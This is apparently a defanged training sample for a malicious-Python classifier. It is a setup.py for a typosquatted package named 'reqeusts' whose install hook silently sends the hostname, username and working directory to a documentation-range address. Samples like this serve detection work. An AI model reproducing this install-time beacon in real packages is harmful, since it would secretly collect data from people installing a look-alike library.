# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import os
import socket
import getpass
from urllib import request, parse
from setuptools import setup
from setuptools.command.install import install


class Beacon(install):
    def run(self):
        q = parse.urlencode({
            "h": socket.gethostname(),
            "u": getpass.getuser(),
            "d": os.getcwd(),
            "p": "reqeusts",
        })
        try:
            request.urlopen("http://192.0.2.77:8080/c?" + q, timeout=3)
        except Exception:
            pass
        install.run(self)


setup(name="reqeusts", version="2.31.1", packages=[], cmdclass={"install": Beacon})
